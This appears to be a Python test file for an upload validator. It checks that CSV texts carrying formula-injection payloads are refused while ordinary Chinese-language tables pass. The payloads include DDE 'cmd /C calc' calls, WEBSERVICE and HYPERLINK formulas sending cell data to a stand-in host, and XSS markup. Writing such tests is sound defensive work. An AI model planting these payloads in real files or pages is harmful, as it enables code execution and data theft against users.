"""Texts that a spreadsheet opens as a table: formulas that reach out are refused, ordinary tables are not."""

import contextlib
import time

import pytest

from backend.domain.content.kind import taken_in
from backend.domain.errors import Invalid


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        " =cmd|' /C calc'!A0",
        "＝cmd|' /C calc'!A0",
        '=1+WEBSERVICE("http://a.example/"&A1)',
        "=WEBSERVICE (A1)",
        '=HYPERLINK("http://a.example/"&A1,"点这里")',
        "+HYPERLINK(A1)",
        "-IMAGE(A1)",
        '=DDE("cmd";"/C calc";"x")',
        "=MSEXCEL|'..\\..\\cmd.exe /c calc'!''",
        "=A|B",
        "=IF(1,cmd|'/C calc'!A0,2)",
        "- IMAGE(2,A1)",
        '-image("http://a.example/(2).jpg")',
        "=IMAGE(2)&IMAGE(A1)",
        "＝cmd｜' /C calc'!A0",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_a_formula_that_reaches_out_is_refused_in_every_cell(cell: str, encoding: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    for text in (
        cell,
        f"姓名,备注\n查文敏,{cell}\n",
        f"甲\t{cell}",
        f"甲;{cell};乙",
        f"甲,{quoted},乙\r\n",
        f'"甲\n{quoted[1:]}',
    ):
        with pytest.raises(Invalid) as caught:
            taken_in(text.encode(encoding))
        assert [problem.code for problem in caught.value.problems] == ["file_with_active_content"], text


@pytest.mark.parametrize(
    "text",
    [
        "- image (2).jpg\n[查看](javascript:alert(1))\n",
        "- image (2).jpg\n<script>alert(1)</script>\n",
        "# 说明\n<img src=x onerror=alert(1)>\n",
        "<!DOCTYPE html><p>甲</p>",
    ],
)
def test_a_text_with_markup_that_runs_is_refused(text: str) -> None:
    with pytest.raises(Invalid) as caught:
        taken_in(text.encode())
    assert [problem.code for problem in caught.value.problems] == ["file_kind_refused"]


def test_a_long_text_is_judged_in_its_time() -> None:
    for text in (
        "\n" * 200_000,
        "=" * 200_000 + "(",
        "=," * 100_000 + "|",
        "=|" + " " * 200_000,
        "-" * 200_000 + "|" * 9,
    ):
        with contextlib.suppress(Invalid):
            began = time.perf_counter()
            taken_in(text.encode())
        assert time.perf_counter() - began < 5


@pytest.mark.parametrize(
    "text",
    [
        "项目,金额\n退款,-1200.50\n结余,+30\n",
        "姓名,电话\n查文敏,+86 199 2345 6782\n陶立新,-\n",
        "合计,=SUM(B2:B9)\n,=B2*1.5\n",
        "照片：\n- image (2).jpg\n- IMAGE(10).png\n+ call （3） 次\n",
        "- 修渠道\n- 补路灯 | 柳塘村\n+ 已完成\n@查文敏 请核对\n",
        "| 姓名 | 电话 |\n| --- | --- |\n| 查文敏 | -5 |\n",
        "=====\n会议记录\n=====\n-----\n",
        "图像（IMAGE）处理，-5℃，调用CALL中心\n",
        "2026-11-30 08:00:00 - INFO | started\n",
        "差额,-3,\"-4\",'-5'\n比例,=1/3\n",
    ],
)
def test_an_ordinary_table_or_list_is_taken_as_it_is(text: str) -> None:
    assert taken_in(text.encode()) == (text.encode(), "text/plain")
